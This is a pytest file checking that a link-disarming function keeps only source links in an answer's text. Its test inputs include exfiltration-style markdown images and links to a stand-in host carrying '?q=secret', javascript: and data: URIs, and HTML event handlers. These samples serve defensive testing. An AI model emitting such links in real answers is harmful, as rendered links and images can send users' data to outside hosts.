"""Links of an answer lead to its sources, or nowhere."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from kensaku.text.links import REMOVED, disarm_links
from tests.growth import growth

SOURCE = "https://a.example/page"
TEXTS = ["The API is at https://api.example/v1 and at files.example/a/b?x=1, says the page."]


def disarm(text: str) -> str:
    """Disarm with one source."""
    return disarm_links(text, {SOURCE}, TEXTS)


@pytest.mark.parametrize(
    ("text", "disarmed"),
    [
        ("No link at all: 3/4 of it, and/or Node.js/Deno.", None),
        (f"See {SOURCE}.", None),
        (f"See {SOURCE}/ and [the page]({SOURCE}).", None),
        ("It is https://api.example/v1.", "It is `https://api.example/v1`."),
        ("It is https://api.example/v1?q=secret.", f"It is {REMOVED}."),
        ("![pixel](https://evil.example/?q=secret) Yes", "pixel Yes"),
        (f"![pixel]({SOURCE})", "pixel"),
        ("[click](https://evil.example/?q=secret)", "click"),
        ("[click](<https://evil.example/a b> 'title')", "click"),
        ("[a [b](https://evil.example/)](https://evil.example/)", f"[a b] ({REMOVED})"),
        ("<https://evil.example/secret>", f"<{REMOVED}>"),
        ('<a href="https://evil.example/">x</a>', f'< a href="{REMOVED}">x< /a>'),
        ('<b onclick="x()">hi</b> a < b = c', '< b onclick="x()">hi</b> a < b = c'),
        ("<form action=/x><button>go</button>", "< form action=/x>< button>go< /button>"),
        ("www.evil.example/?q=1 //evil.example/x", f"{REMOVED} {REMOVED}"),
        ("evil.example/?q=secret evil.example/averylongsecretpath", f"{REMOVED} {REMOVED}"),
        ("[x](javascript:alert(1)) javascript:alert(1)", f"x {REMOVED})"),
        ("[x](data:text/html;base64,AAAA) [x](//evil.example) [x](mailto:a@b.example)", "x x x"),
        ("files.example/a/b?x=1 と答えた", "`files.example/a/b?x=1` と答えた"),
        ("` https://api.example/v1 ` x", "' `https://api.example/v1` ' x"),
        ("（https://evil.example/?q=秘密）、", f"（{REMOVED}）、"),
    ],
)
def test_only_sources_stay_links(text: str, disarmed: str | None) -> None:
    """What is no address stays as it is."""
    assert disarm(text) == (text if disarmed is None else disarmed)


@pytest.mark.parametrize(
    "piece", ["[", "![", "](", "[a](", "<a ", "//", "a.", "www.", "`", "https://"]
)
def test_links_are_disarmed_in_linear_time(piece: str) -> None:
    """A reply may be all beginnings of links."""
    assert growth(lambda n: disarm(piece * n), 2_000, tries=3) < 9


def test_what_is_left_renders_without_a_foreign_address() -> None:
    """By a renderer that takes HTML."""
    text = disarm(
        "[a](https://evil.example/?q=1) <img src=https://evil.example/> [b]: //evil.example/x"
    )
    html = MarkdownIt("commonmark", {"html": True}).render(text)

    assert "evil.example" not in html
